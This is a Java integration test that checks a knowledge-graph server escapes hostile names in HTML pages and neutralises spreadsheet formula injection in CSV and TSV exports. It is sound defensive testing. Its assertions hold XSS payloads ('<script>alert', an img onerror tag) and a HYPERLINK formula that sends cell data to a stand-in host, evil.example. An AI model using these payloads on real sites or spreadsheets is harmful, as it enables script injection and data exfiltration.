package org.scamkg.serve;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Optional;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.scamkg.TestProject;
import org.scamkg.export.CsvExport;
import org.scamkg.store.KgStore;
import org.scamkg.store.StoreLoader;

/** Names carrying markup show as text on every page that shows them. */
class HostileLabelsIT {
    @TempDir static Path dir;
    static KgServer server;
    static final HttpClient http = HttpClient.newHttpClient();

    @BeforeAll
    static void start() {
        Path data = TestProject.fixtureData(dir, "hostile-labels");
        Path store = dir.resolve("store");
        try (KgStore s = KgStore.open(TestProject.CONFIG, store)) {
            StoreLoader.load(s, TestProject.withData(data));
            CsvExport.write(s.dataset(), dir.resolve("csv"));
        }
        server = KgServer.create(new ServerOptions("127.0.0.1", 0, store, TestProject.CONFIG, TestProject.QUERIES, Optional.empty(), 10)).start();
    }

    @AfterAll
    static void stop() { server.stop(); }

    static String html(String path) throws Exception {
        HttpResponse<String> r = http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + path))
                .header("Accept", "text/html").build(), HttpResponse.BodyHandlers.ofString());
        assertEquals(200, r.statusCode(), path);
        return r.body();
    }

    static void assertEscaped(String page) {
        assertFalse(page.contains("<script>alert"), "raw script tag");
        assertFalse(page.contains("<img src=x"), "raw img tag");
        assertTrue(page.contains("&lt;script&gt;alert(&#39;pwned&#39;)&lt;/script&gt;"), "the name, escaped");
    }

    /**
     * CSV formula injection (issue 17 item 9): names that begin with =, +, - or @ reach every CSV
     * (the export, the query API, /kg/sparql) with a leading apostrophe, so a spreadsheet shows
     * them as text and runs nothing.
     */
    @Test
    void csvNeverStartsACellWithAFormula() throws Exception {
        String sparql = http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + "/kg/sparql?query="
                + URLEncoder.encode("SELECT ?name ?n { ?p <http://www.w3.org/2000/01/rdf-schema#label>|<http://www.w3.org/2004/02/skos/core#altLabel> ?name BIND(-5 AS ?n) }", StandardCharsets.UTF_8)))
                .header("Accept", "text/csv").build(), HttpResponse.BodyHandlers.ofString()).body();
        assertNoFormula(sparql);
        assertTrue(sparql.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""), sparql);
        assertTrue(sparql.contains("'+1+1") && sparql.contains("'@SUM(A1:A9)") && sparql.contains("'-2+3"), sparql);
        assertTrue(sparql.contains(",-5\r\n"), "numbers stay numbers: " + sparql);

        String api = http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + "/queries/name-variants?format=csv&entity="
                + URLEncoder.encode("person/formula-man", StandardCharsets.UTF_8))).build(), HttpResponse.BodyHandlers.ofString()).body();
        assertNoFormula(api);
        assertTrue(api.contains("'=HYPERLINK"), api);

        String export = java.nio.file.Files.readString(dir.resolve("csv/persons.csv"));
        assertNoFormula(export);
        assertTrue(export.contains("'=HYPERLINK"), export);
    }

    /**
     * TSV too: SPARQL TSV writes a string in quotes, which spreadsheets drop before reading the
     * rest as a formula. A text that would start one gets an apostrophe inside the quotes, in the
     * /kg/sparql results and the query API's; numbers stay numbers.
     */
    @Test
    void tsvNeverStartsACellWithAFormula() throws Exception {
        String sparql = http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + "/kg/sparql?query="
                + URLEncoder.encode("SELECT ?name ?n { ?p <http://www.w3.org/2000/01/rdf-schema#label>|<http://www.w3.org/2004/02/skos/core#altLabel> ?name BIND(-5 AS ?n) }", StandardCharsets.UTF_8)))
                .header("Accept", "text/tab-separated-values").build(), HttpResponse.BodyHandlers.ofString()).body();
        assertTrue(sparql.startsWith("?name\t?n\n"), sparql);
        assertNoTsvFormula(sparql);
        assertTrue(sparql.contains("\"'=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Click\\\")\""), sparql);
        assertTrue(sparql.contains("\"'+1+1") && sparql.contains("\"'@SUM(A1:A9)") && sparql.contains("\"'-2+3"), sparql);
        assertTrue(sparql.contains("\t-5\n"), "numbers stay numbers: " + sparql);
        String api = http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + "/queries/name-variants?format=tsv&entity="
                + URLEncoder.encode("person/formula-man", StandardCharsets.UTF_8))).build(), HttpResponse.BodyHandlers.ofString()).body();
        assertNoTsvFormula(api);
        assertTrue(api.contains("\"'=HYPERLINK"), api);
    }

    static void assertNoTsvFormula(String tsv) {
        for (String line : tsv.split("\n"))
            for (String cell : line.split("\t"))
                if (!cell.equals("-5"))
                    assertFalse(java.util.regex.Pattern.compile("^\"?[=+@-]").matcher(cell).find(), "a cell starts a formula: " + cell + " in " + line);
    }

    static void assertNoFormula(String csv) {
        for (String line : csv.split("\r?\n"))
            // the one number column of the /kg/sparql probe (-5) is a number, not a formula
            assertFalse(java.util.regex.Pattern.compile("(^|,)\"?[=+@\t-]").matcher(line.replaceAll(",-5$", "")).find(), "a cell starts a formula: " + line);
    }

    @Test
    void entityPageEscapesTheName() throws Exception {
        String page = html("/id/person/lena-vos");
        assertEscaped(page);
        // The page's template engine also escapes '=': the alias reads the same in a browser.
        assertTrue(page.contains("&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;"), "the alias, escaped");
    }

    @Test
    void searchAndQueryPagesEscapeTheName() throws Exception {
        assertEscaped(html("/search?q=lena"));
        assertEscaped(html("/queries/name-variants?entity=" + URLEncoder.encode("person/lena-vos", StandardCharsets.UTF_8)));
    }
}
